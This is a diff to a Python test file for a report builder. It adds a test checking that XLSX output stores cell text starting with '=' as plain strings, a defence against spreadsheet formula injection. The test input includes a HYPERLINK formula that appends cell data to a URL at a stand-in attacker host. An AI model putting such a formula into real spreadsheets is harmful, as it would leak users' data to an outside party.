@@ -1,5 +1,6 @@
 """The rendered report: PDF pages as images, embedded fonts, XLSX sheets, determinism."""
 
+import copy
 import ctypes
 import io
 
@@ -189,3 +190,28 @@ def test_base_profiles_are_one_page_pdfs_with_chinese_text(sample_payload):
     # rebuilt: the same bytes
     again = profiles_build(sample_payload, content_hash=h, lang="zh", codes=codes)
     assert again == files
+
+
+def test_xlsx_text_starting_with_an_equals_sign_stays_text(sample_payload):
+    from openpyxl import load_workbook
+
+    payload = copy.deepcopy(sample_payload)
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    payload["narrative"]["problems"] = {"zh": formula, "en": formula}
+    payload["bases"][0]["name_en"] = "=1+1"
+
+    data = report_build(payload, content_hash=payload_hash(payload), lang="en", fmt="xlsx")
+    book = load_workbook(io.BytesIO(data))
+
+    narrative = {row[0].value: row[1] for row in book["narrative"].iter_rows(min_row=2)}
+    assert (narrative["problems"].value, narrative["problems"].data_type) == (formula, "s")
+    name = book["bases"]["C2"]
+    assert (name.value, name.data_type) == ("=1+1", "s")
+    formulas = [
+        (sheet.title, cell.coordinate)
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
